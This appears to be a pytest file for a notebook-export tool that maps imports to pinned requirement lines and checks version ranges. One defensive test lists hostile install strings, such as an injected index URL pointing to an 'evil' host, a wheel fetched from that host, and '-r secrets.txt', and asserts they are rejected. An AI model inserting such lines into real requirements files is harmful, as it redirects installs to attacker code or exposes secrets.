"""Imports become pinned requirements under the names that install them."""

from __future__ import annotations

import re
from importlib import metadata

import pytest

from nbexport.emit import requirements


@pytest.fixture
def installed(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """A made-up environment: distribution → version."""
    versions = {
        "torch": "2.13.0+cpu",
        "numpy": "2.1.0",
        "scikit-learn": "1.6.0",
        "skops": "0.13.0",
        "opencv-python": "4.11.0.86",
        "pillow": "11.0.0",
        "pyyaml": "6.0.2",
        "loguru": "0.7.3",
    }
    owners = {
        "torch": ["torch"],
        "numpy": ["numpy"],
        "sklearn": ["scikit-learn"],
        "cv2": ["opencv-python"],
        "PIL": ["Pillow"],
        "yaml": ["PyYAML"],
    }

    def version(name: str) -> str:
        if name not in versions:
            raise metadata.PackageNotFoundError(name)
        return versions[name]

    monkeypatch.setattr(requirements, "_owners", lambda root: owners.get(root, []))
    monkeypatch.setattr(requirements.metadata, "version", version)
    return versions


def test_what_a_library_needs_for_a_call_alone() -> None:
    called = {"pandas.read_excel", "to_parquet", ".xls", "s3://", "lightgbm.LGBMClassifier", "pandas.read_csv", "fit"}
    assert requirements.optional(called) == ("openpyxl", "pyarrow", "s3fs", "scikit-learn", "xlrd")
    assert requirements.optional({"pandas.read_csv", "lightgbm.train", "to_csv"}) == ()


def test_names_and_versions(installed: dict[str, str]) -> None:
    found = requirements.pins(["sklearn.linear_model", "cv2", "PIL.Image", "yaml", "json", "os.path"], extra=["loguru"])
    assert found.lines == (
        "loguru==0.7.3",
        "opencv-python==4.11.0.86",
        "pillow==11.0.0",
        "pyyaml==6.0.2",
        "scikit-learn==1.6.0",
        "skops==0.13.0",
    )
    assert found.unknown == ()


def test_local_labels_are_dropped_and_what_a_bundle_needs_is_added(installed: dict[str, str]) -> None:
    found = requirements.pins(["torch.nn", "torch"])
    assert found.lines == ("numpy==2.1.0", "safetensors", "torch==2.13.0")
    assert found.unknown == ("safetensors",)


def test_what_is_not_installed_is_noted_and_not_guessed(installed: dict[str, str]) -> None:
    found = requirements.pins(["obscure.part", "skimage.io", ".helpers"])
    assert found.lines == ("scikit-image",)
    assert found.unknown == ("obscure", "scikit-image")


@pytest.mark.parametrize(
    ("written", "line"),
    [
        ("obscure==1.2", "obscure==1.2"),
        ("obscure >= 1, <2", "obscure>=1,<2"),
        ("Obscure[all]~=1.0", "Obscure[all]~=1.0"),
    ],
)
def test_the_notebook_s_own_pins_are_taken(installed: dict[str, str], written: str, line: str) -> None:
    found = requirements.pins(["obscure"], installs=[written])
    assert found.lines == (line,)
    assert found.unknown == ()


@pytest.mark.parametrize(
    "hostile",
    [
        "obscure\n--index-url=http://evil",
        "obscure @ http://evil/x.whl",
        "-r secrets.txt",
        "obscure; import os",
        "obscure==",
    ],
)
def test_a_hostile_install_line_never_reaches_the_file(installed: dict[str, str], hostile: str) -> None:
    found = requirements.pins(["obscure"], installs=[hostile])
    assert found.lines == ()
    assert found.unknown == ("obscure",)


def test_owners_are_those_that_the_standard_library_finds() -> None:
    known = metadata.packages_distributions()
    roots = sorted(root for root in known if root.isidentifier())
    assert len(roots) > 20
    # where a distribution has a `top_level.txt`, the standard library reads nothing else, and finds fewer
    missed = {root: set(known[root]) - set(requirements._owners(root)) for root in roots}
    assert not {root: names for root, names in missed.items() if names}


@pytest.mark.parametrize(
    ("module", "line"),
    [
        ("sklearn.linear_model", "scikit-learn"),
        ("dateutil.parser", "python-dateutil"),
        ("torch", "torch"),
        ("typing_extensions", "typing-extensions"),
    ],
)
def test_modules_are_pinned_under_the_name_that_installs_them(module: str, line: str) -> None:
    version = metadata.version(line).partition("+")[0]
    assert f"{line}=={version}" in requirements.pins([module]).lines


@pytest.mark.parametrize(
    ("pinned", "allowed"),
    [
        ("scikit-learn==1.9.1", "scikit-learn>=1.9.1,<2"),
        ("torch==2.13.0", "torch>=2.13.0,<2.14"),
        ("uvicorn[standard]==0.54.0", "uvicorn[standard]>=0.54.0,<0.55"),
        ("opencv-python==4.11.0.86", "opencv-python>=4.11.0.86,<5"),
        ("some==3", "some>=3,<4"),
        ("some==2.0rc1", "some>=2.0rc1,<3"),
        # the notebook's own words
        ("some>=1,<1.5", "some>=1,<1.5"),
        ("some~=1.2", "some~=1.2"),
        ("some", "some"),
        ("some==1.*", "some==1.*"),
    ],
)
def test_a_project_allows_what_is_not_expected_to_break(pinned: str, allowed: str) -> None:
    assert requirements.ranges([pinned]) == (allowed,)


def test_nothing_that_a_project_adds_floats() -> None:
    from nbexport.emit.package import CHECKS, DEV, DEV_SERVICE, PIPELINE, SERVICE

    known = requirements.WITHOUT_NEED_HERE
    assert {*SERVICE, *PIPELINE, *CHECKS} == {*known}
    assert [
        line for line in (*known.values(), *DEV, *DEV_SERVICE) if not re.fullmatch(r"\S+>=[\d.]+,<[\d.]+", line)
    ] == []
